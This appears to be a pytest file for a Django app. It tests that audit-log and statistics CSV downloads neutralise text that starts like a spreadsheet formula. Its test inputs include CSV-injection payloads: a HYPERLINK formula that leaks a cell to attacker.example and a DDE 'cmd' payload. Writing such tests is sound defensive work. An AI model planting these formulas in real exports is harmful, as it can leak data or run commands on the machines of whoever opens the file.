"""No spreadsheet formula in a download: the audit log export and the statistics CSV share one
writer (backend.csv_export), which turns text starting like a formula into plain text."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client

from backend import models as m
from backend.csv_export import cell, csv_text, neutralise
from tests.factories import LeadFactory, OfficeFactory, UserFactory

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_like_a_formula_is_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert cell(text) == "'" + text
    assert cell([text, "b"]) == f"'{text};b"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        (None, ""),
        (True, "true"),
        (-3, "-3"),  # a number is never a formula
        (0.25, "0.25"),
        (-1.5, "-1.5"),
        (dt.date(2026, 1, 2), "2026-01-02"),
        (dt.datetime(2026, 1, 2, 3, 4, tzinfo=dt.UTC), "2026-01-02T03:04:00+00:00"),
        (["A", "B"], "A;B"),
    ],
)
def test_other_values_are_written_as_they_are(value: object, written: str) -> None:
    assert cell(value) == written


def test_a_file_is_rfc_4180_with_every_cell_written_by_cell() -> None:
    text = csv_text(["name", "n"], [[HYPERLINK, 1], ['say "hi"', None]])
    assert text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "n"],
        ["'" + HYPERLINK, "1"],
        ['say "hi"', ""],
    ]


def rows_of(response) -> list[dict[str, str]]:
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.DictReader(io.StringIO(content)))


@pytest.mark.django_db
@pytest.mark.parametrize("username", FORMULAS[:4])
def test_a_failed_sign_in_named_like_a_formula_is_exported_as_text(username: str) -> None:
    # given a failed sign-in whose username is a spreadsheet formula
    Client().post("/accounts/login/", {"username": username, "password": "wrong"})
    auditor = Client()
    auditor.force_login(UserFactory(username="csv-auditor", role=m.Role.AUDITOR))
    # when an auditor downloads the failed sign-ins
    response = auditor.get("/audit/export.csv", {"kind": "LOGIN_FAILED"})
    # then the username cell is that text, neutralised, and no cell starts a formula
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    [row] = rows_of(response)
    assert row["username"] == "'" + username
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


@pytest.mark.django_db
def test_an_office_named_like_a_formula_is_downloaded_as_text_in_the_statistics() -> None:
    # given a lead of an office whose name is a spreadsheet formula
    LeadFactory(office=OfficeFactory(name=HYPERLINK))
    analyst = Client()
    analyst.force_login(UserFactory(username="csv-analyst", role=m.Role.ANALYST))
    # when an analyst downloads the lead statistics
    response = analyst.get("/statistics/leadStatistics.csv")
    # then the office cell is that text, neutralised
    assert response.status_code == 200, response.content
    [row] = rows_of(response)
    assert row["office"] == "'" + HYPERLINK
    # and so is the csv field of the same table over GraphQL
    answer = analyst.post(
        "/graphql",
        {"query": "{ leadStatistics { csv } }"},
        content_type="application/json",
    )
    [line] = list(csv.DictReader(io.StringIO(answer.json()["data"]["leadStatistics"]["csv"])))
    assert line["office"] == "'" + HYPERLINK


@pytest.mark.django_db
def test_the_audit_export_refuses_other_methods_with_its_row() -> None:
    from audit.models import AuditEvent

    auditor = Client()
    auditor.force_login(UserFactory(username="csv-auditor", role=m.Role.AUDITOR))
    response = auditor.post("/audit/export.csv")
    assert response.status_code == 405
    assert response.json()["code"] == "METHOD_NOT_ALLOWED"
    [row] = AuditEvent.objects.filter(kind="OPERATION")
    assert (row.operation_name, row.outcome, row.error_codes) == (
        "auditExportCsv",
        "INVALID",
        ["METHOD_NOT_ALLOWED"],
    )
